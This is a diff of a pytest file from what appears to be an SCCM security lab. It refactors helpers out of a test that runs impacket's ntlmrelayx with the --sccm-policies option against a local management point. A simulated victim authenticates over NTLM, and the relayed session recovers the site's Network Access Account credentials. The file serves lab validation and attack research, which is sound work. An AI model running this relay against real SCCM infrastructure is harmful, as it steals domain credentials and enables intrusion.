@@ -10,71 +10,24 @@ relayed connection's later requests as the relayed account; the lab must too.
 
 from __future__ import annotations
 
-import base64
-import http.client
 import json
-import shutil
-import socket
 import subprocess
-import sys
 import time
 from pathlib import Path
 
 import pytest
-import spnego
 
 from cmglab.runtime.lab import Lab
 from cmglab.runtime.sockets import free_port_now
 from cmglab.tools.processes import LabProcesses
 from tests.conftest import lab_client
+from tests.support.relay import QUIET, ntlmrelayx, stop, victim_authenticates, wait_listening
 
 
 @pytest.fixture(scope="module")
 def mp(lab: Lab, lab_services: LabProcesses) -> Lab:
     lab_services.ensure("management-point")
     return lab
-
-
-def ntlmrelayx() -> str:
-    tool = shutil.which("ntlmrelayx.py", path=str(Path(sys.executable).parent)) or shutil.which("ntlmrelayx.py")
-    if tool is None:
-        pytest.fail("ntlmrelayx.py (impacket, in the test extra) is not installed")
-    return tool
-
-
-def wait_listening(port: int, proc: subprocess.Popen[bytes], deadline: float) -> None:
-    while time.monotonic() < deadline:
-        if proc.poll() is not None:
-            pytest.fail(f"ntlmrelayx exited with {proc.returncode}")
-        try:
-            socket.create_connection(("127.0.0.1", port), timeout=1).close()
-            return
-        except OSError:
-            time.sleep(0.1)
-    pytest.fail("ntlmrelayx's HTTP listener did not come up")
-
-
-def victim_authenticates(port: int, user: str, password: str) -> int:
-    """A Windows client's NTLM over HTTP to the attacker's server: 401 → negotiate → challenge → authenticate."""
-    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
-    try:
-        conn.request("GET", "/")
-        first = conn.getresponse()
-        first.read()
-        assert first.status == 401 and "NTLM" in (first.getheader("WWW-Authenticate") or "")
-        ctx = spnego.client(user, password, hostname="attacker", service="HTTP", protocol="ntlm")
-        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(ctx.step() or b"").decode()})
-        challenge = conn.getresponse()
-        challenge.read()
-        value = challenge.getheader("WWW-Authenticate") or ""
-        assert challenge.status == 401 and value.startswith("NTLM "), (challenge.status, value)
-        token = ctx.step(base64.b64decode(value.split(" ", 1)[1])) or b""
-        conn.request("GET", "/", headers={"Authorization": "NTLM " + base64.b64encode(token).decode()})
-        final = conn.getresponse()
-        final.read()
-        return final.status
-    finally:
-        conn.close()
 
 
 def test_ntlmrelayx_sccm_policies_recovers_the_naa(mp: Lab, tmp_path: Path) -> None:
@@ -85,8 +38,7 @@ def test_ntlmrelayx_sccm_policies_recovers_the_naa(mp: Lab, tmp_path: Path) -> N
     with out.open("wb") as sink:
         proc = subprocess.Popen(
             [ntlmrelayx(), "-t", target, "--sccm-policies", "--sccm-policies-sleep", "0",
-             "-ip", "127.0.0.1", "--http-port", str(http_port), "--no-smb-server", "--no-wcf-server",
-             "--no-raw-server", "--no-rpc-server", "--no-winrm-server", "--no-mssql-server", "--no-rdp-server"],
+             "-ip", "127.0.0.1", "--http-port", str(http_port), *QUIET],
             cwd=tmp_path, stdin=subprocess.PIPE, stdout=sink, stderr=subprocess.STDOUT)
     try:
         deadline = time.monotonic() + 60
@@ -98,13 +50,7 @@ def test_ntlmrelayx_sccm_policies_recovers_the_naa(mp: Lab, tmp_path: Path) -> N
                 break
             time.sleep(0.2)
     finally:
-        if proc.poll() is None:
-            proc.terminate()
-            try:
-                proc.wait(10)
-            except subprocess.TimeoutExpired:
-                proc.kill()
-                proc.wait()
+        stop(proc)
     log = out.read_text(errors="replace")
     assert "DONE - attack finished" in log, log
     naa = mp.config.site.network_access_account
